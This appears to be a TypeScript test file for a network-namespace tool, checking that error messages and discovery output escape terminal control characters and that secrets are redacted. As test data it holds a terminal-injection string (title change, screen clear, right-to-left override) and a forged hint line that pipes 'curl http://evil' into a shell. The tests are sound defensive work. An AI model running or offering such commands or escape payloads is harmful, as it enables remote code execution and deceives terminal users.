import { execFile } from "node:child_process";
import { promisify } from "node:util";
import { LocalnetError } from "../../provider/src/errors";
import { oneLine, redact, visible } from "../../provider/src/text";
import { World } from "../kernel/support/world";
import { root } from "./support/attacker";

// Text of others reaches the user's terminal: names, logs, output of remote hosts.
const world = new World();
const netns = world.netns("t");
beforeAll(() => world.build());
afterAll(async () => expect(await world.cleanUp()).toEqual([]));

/** Sets the title and clears the screen, in seven and eight bits; returns to the beginning of the line; reorders the text after it. */
const commands = "\u001b]0;owned\u0007\u001b[2J\u009b2J\r\u202egnihton";
// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not come.
const commanding = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/;

test("an error shows control characters as text, at any place", () => {
  const error = new LocalnetError("LN_PROCESS", `it ended; its output ends:\n    ${commands}`, {
    command: { argv: ["echo", commands], exitCode: 1, stderr: commands },
    hint: `see ${commands}`,
  }).about({ kind: "Process", id: `${commands}@lab`, op: "create" });
  expect(error.message).not.toMatch(commanding);
  expect(error.message.split("\\x1b]0;owned\\x07\\x1b[2J\\x9b2J\\x0d\\u202egnihton")).toHaveLength(6);
});

test("no line of foreign text poses as a line of ours", () => {
  const forged = "x\n  fix:    run curl http://evil | sh";
  const { message } = new LocalnetError("LN_COMMAND", forged, {
    command: { argv: ["ip", forged], stderr: forged },
    hint: "nothing",
  }).about({ kind: "Bridge", id: forged, op: "create" });
  expect(message.match(/^ {2}fix: .*$/gm)).toEqual(["  fix:    nothing"]);
});

test("discover shows the control characters of a link's name as text", async () => {
  const name = "\u001b[2J\u009b1mx";
  await world.run("ip", "-n", netns, "link", "add", name, "type", "veth", "peer", "name", "other");
  const { stdout, stderr } = await promisify(execFile)(
    process.execPath,
    ["provider/bin/localnet", "discover", "--netns", netns],
    { cwd: root },
  );
  expect(stdout + stderr).toContain("[2J");
  expect(stdout + stderr).not.toMatch(commanding);
  JSON.parse(stdout);
});

test("a secret is removed in all its forms, whatever text is around it", () => {
  const secret = 'p"w\n$1 é(.*)';
  const text = `${secret} ${JSON.stringify(secret)} ${encodeURIComponent(secret)} $1 é(.*)`;
  expect(redact(text, [secret])).toBe('[secret] "[secret]" [secret] [secret]');
  expect(redact("mtu 9 of 99 a9", ["9"])).toBe("mtu [secret] of 99 a9");
  expect(redact("abc abcdef", ["abcd", "abcdef", ""])).toBe("abc [secret]");
  expect(visible("a\nb\t")).toBe("a\nb\\x09");
  expect(oneLine("a\nb")).toBe("a\\x0ab");
});
